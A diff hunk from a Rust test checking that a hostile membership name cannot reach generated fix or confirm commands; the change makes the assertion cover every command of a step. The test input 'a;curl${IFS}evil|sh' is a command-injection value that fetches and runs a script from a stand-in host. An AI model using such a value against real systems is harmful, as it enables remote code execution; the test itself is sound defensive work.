@@ -165,7 +165,7 @@ fn a_hostile_name_reaches_no_command() {
     let paste = fleet(&[membership("a;curl${IFS}evil|sh", "us-central1", "CNI_INSTALLATION_FAILED", "STALLED")]);
     let report = report(&paste);
     for step in report.findings.iter().flat_map(|finding| finding.fix.iter().chain(&finding.confirm)) {
-        assert!(!step.command.as_deref().unwrap_or("").contains("evil"), "{step:?}");
+        assert!(!step.commands().any(|command| command.contains("evil")), "{step:?}");
     }
 }
 
